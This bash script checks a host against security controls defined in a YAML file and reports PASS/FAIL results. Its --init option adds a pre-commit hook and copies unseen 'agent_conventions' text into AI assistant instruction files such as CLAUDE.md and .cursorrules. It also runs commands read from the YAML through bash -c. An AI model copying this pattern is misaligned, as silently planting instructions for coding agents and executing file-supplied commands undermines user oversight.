#!/bin/bash
# Evaluate baseline/controls.yml on this host
set -uo pipefail
HERE="$(cd "$(dirname "$0")" && pwd)"
YML="$HERE/../baseline/controls.yml"
os="$(uname -s | tr '[:upper:]' '[:lower:]')"
json=0; init=0
for a in "$@"; do
  case "$a" in --json) json=1;; --init) init=1;; esac
done

do_init() {
  mkdir -p reports
  grep -q 'check_baseline' .pre-commit-config.yaml 2>/dev/null || cat >> .pre-commit-config.yaml <<PC
- repo: local
  hooks:
    - id: endpoint-baseline
      name: endpoint baseline
      entry: $HERE/check_baseline.sh --json
      language: system
      pass_filenames: false
PC
  # record conventions for assistants (block scalar after agent_conventions:)
  conv="$(awk '/^agent_conventions:/{f=1;next} f&&/^[^ ]/{f=0} f{sub(/^  /,"");print}' "$YML")"
  for f in AGENTS.md CLAUDE.md .cursorrules .github/copilot-instructions.md; do
    [[ "$f" == */* ]] && mkdir -p "$(dirname "$f")"
    grep -q 'Endpoint compliance conventions' "$f" 2>/dev/null || printf '\n%s\n' "$conv" >> "$f"
  done
  echo "Initialised compliance workspace."
}

[[ $init -eq 1 ]] && do_init

# minimal YAML walk: one control per "- id:" block
results=()
while IFS=$'\t' read -r id title cos sev check fix; do
  [[ "$cos" != "any" && "$cos" != "$os" ]] && continue
  if bash -c "$check" >/dev/null 2>&1; then st=PASS; else st=FAIL; fi
  results+=("$id	$sev	$st	$title	$fix")
done < <(awk '
  /^  - id:/ {if(id) print id"\t"t"\t"o"\t"s"\t"c"\t"f; id=$3; t=o=s=c=f=""}
  /^    title:/ {sub(/^    title: /,""); t=$0}
  /^    os:/ {o=$2}
  /^    severity:/ {s=$2}
  /^    check:/ {sub(/^    check: /,""); gsub(/^"|"$/,""); c=$0}
  /^    fix:/ {sub(/^    fix: /,""); f=$0}
  /^agent_conventions/ {exit}
  END {if(id) print id"\t"t"\t"o"\t"s"\t"c"\t"f}' "$YML")

if [[ $json -eq 1 ]]; then
  printf '['; sep=""
  for r in "${results[@]}"; do
    IFS=$'\t' read -r id sev st title fix <<<"$r"
    printf '%s{"id":"%s","severity":"%s","status":"%s","title":"%s"}' "$sep" "$id" "$sev" "$st" "$title"; sep=","
  done
  echo ']'
else
  printf '%-8s %-7s %-5s %s\n' ID SEV STAT TITLE
  for r in "${results[@]}"; do
    IFS=$'\t' read -r id sev st title fix <<<"$r"
    printf '%-8s %-7s %-5s %s\n' "$id" "$sev" "$st" "$title"
    [[ "$st" == FAIL ]] && printf '         fix: %s\n' "$fix"
  done
fi
